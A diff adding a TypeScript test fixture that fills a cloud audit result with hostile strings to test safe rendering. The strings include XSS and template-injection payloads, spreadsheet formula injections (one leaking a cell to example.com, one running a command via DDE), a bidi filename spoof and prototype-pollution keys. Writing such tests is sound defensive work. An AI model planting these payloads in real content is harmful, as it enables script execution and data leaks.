@@ -1,0 +1,81 @@
+import type { Finding } from '../../src/model/finding.ts';
+import type { AuditResult } from '../../src/model/result.ts';
+import { sampleResult } from '../support/sample-result.ts';
+
+/** Texts that try to be more than text. */
+export const hostileTexts: readonly string[] = [
+  '</script><script>alert(1)</script>',
+  '</style><script>alert(2)</script>',
+  '<img src=x onerror=alert(3)>',
+  '"><svg onload=alert(4)>',
+  "' autofocus onfocus=alert(5) x='",
+  '--><!--<script>alert(6)',
+  '&lt;b&gt;&amp;&#x3c;script&#x3e;',
+  ']]><![CDATA[',
+  '{{constructor.constructor("alert(7)")()}}',
+  'javascript:alert(8)',
+  'invoice\u202Efdp.exe',
+  '\u2067right\u2069 \u200Fto left \u05D0\u05D1\u05D2',
+  'null\u0000byte \u0007bell \u001B[31mred',
+  'line\nbreak\r\nand\ttab\u2028and separator',
+  'half \uD83D surrogate \uDE00',
+  'zero\u200Bwidth\uFEFF',
+  'x'.repeat(65_536),
+  '\u202E'.repeat(65_536),
+  '=HYPERLINK("https://example.com/?leak="&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '\uFF1D1+1',
+  '\uFF20SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '   =1+1',
+  '"=1+1"',
+  'a;=1+1;b',
+  '__proto__',
+  'constructor',
+  '👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
+];
+
+/** A result in which every text that comes from the account is hostile. */
+export function hostileResult(): AuditResult {
+  const at = (index: number): string => hostileTexts[index % hostileTexts.length] ?? '';
+  const change = (finding: Finding, index: number): Finding => ({
+    ...finding,
+    status: index % 3 === 0 ? 'FAIL' : finding.status === 'UNKNOWN' ? 'PASS' : finding.status,
+    resource: {
+      ...finding.resource,
+      id: at(index),
+      name: at(index),
+      arn: at(index + 1),
+      tags: JSON.parse(JSON.stringify({ team: at(index + 2) }).replace('"team"', JSON.stringify(at(index + 3)))) as Record<string, string>,
+    },
+    message: at(index),
+    evidence: { text: at(index), list: [at(index + 1)], [at(index + 4)]: null },
+    severityReason: at(index + 5),
+    moved: at(index),
+    ...(index % 3 === 0 && index % 2 === 0 ? { suppressed: { reason: at(index / 6), until: '2027-01-31' } } : {}),
+  });
+  const result = sampleResult({ findings: hostileTexts.length * 18, change: (finding, index) => withoutGap(change(finding, index)) });
+  return {
+    ...result,
+    run: { ...result.run, principalArn: at(0), id: at(1), version: at(2) },
+    gaps: hostileTexts.map((text) => ({
+      kind: 'denied',
+      action: text,
+      message: text,
+      types: ['AWS::S3::Bucket'],
+      regions: ['eu-west-1'],
+      findings: 1,
+    })),
+    census: [
+      { region: 'eu-west-1', state: 'unreadable', gap: { kind: 'denied', action: 'config:Get', message: at(0) }, types: [] },
+      { region: 'us-east-1', state: 'recorded', types: hostileTexts.map((type) => ({ type, category: null, count: 1, covered: false })) },
+    ],
+  };
+}
+
+function withoutGap({ gap: _, ...finding }: Finding): Finding {
+  return finding;
+}
